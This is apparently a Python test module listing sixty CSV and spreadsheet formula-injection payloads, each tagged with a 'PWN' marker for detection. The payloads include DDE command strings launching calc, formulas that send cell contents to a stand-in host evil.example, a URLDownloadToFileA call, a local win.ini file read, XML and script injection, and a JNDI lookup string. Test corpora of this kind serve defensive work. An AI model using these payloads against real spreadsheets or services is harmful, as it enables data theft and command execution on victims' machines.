"""Sixty texts that become a formula, a link, a command or mark-up where a program is careless with them."""

from __future__ import annotations

MARK = "PWN"  # stands in every one of them, so that it can be looked for anywhere

PAYLOADS: tuple[str, ...] = (
    "=PWN", "=1+1&\"PWN\"", "+PWN", "-PWN", "@PWN", "=cmd|'/C calc PWN'!A0", "+cmd|'/C calc PWN'!A0",
    "-2+3+cmd|'/C calc PWN'!A0", "@SUM(1+1)*cmd|'/C calc PWN'!A0", "=DDE(\"cmd\";\"/C calc PWN\";\"x\")",
    "=HYPERLINK(\"http://evil.example/PWN?\"&A1,\"click\")", "=WEBSERVICE(\"http://evil.example/PWN\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/PWN?\",A1),\"//a\")", "=IMPORTDATA(\"http://evil.example/PWN\")",
    "=IMAGE(\"http://evil.example/PWN.png\")", "=FILTERXML(\"<x>PWN</x>\",\"//x\")", "=RTD(\"PWN\",,\"x\")",
    "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"PWN\")", "=REGISTER(\"PWN\")", "=EXEC(\"calc PWN\")",
    "='file:///c:/windows/win.ini'#$PWN.A1", "='\\\\evil.example\\[PWN.xlsx]S'!A1", "=PWN!A1", "=[PWN.xlsx]S!A1",
    "\t=PWN", "\r=PWN", "\n=PWN", " =PWN", "\u00a0=PWN", "\u200b=PWN", "\ufeff=PWN", "'=PWN", "''=PWN", "\"=PWN",
    "\"\"=PWN\"\"", "PWN\n=1+1", "PWN\t=1+1", "PWN;=1+1", "PWN,=1+1", "PWN;=cmd|'/C calc'!A0;", "PWN\";=1+1;\"",
    "PWN|=1+1", "＝PWN", "＋PWN", "－PWN", "＠PWN", "=PWN\u0000", "_x003D_PWN", "_x000A_=PWN", "_x005F_x003D_PWN",
    "</t></is></c><c><f>PWN</f></c>", "]]><f>PWN</f><![CDATA[", "&#61;PWN", "<script>alert('PWN')</script>",
    "{=PWN}", "=PWN()()()", "=-PWN", "%3DPWN", "${jndi:ldap://evil.example/PWN}", "{{PWN}}",
)  # fmt: skip
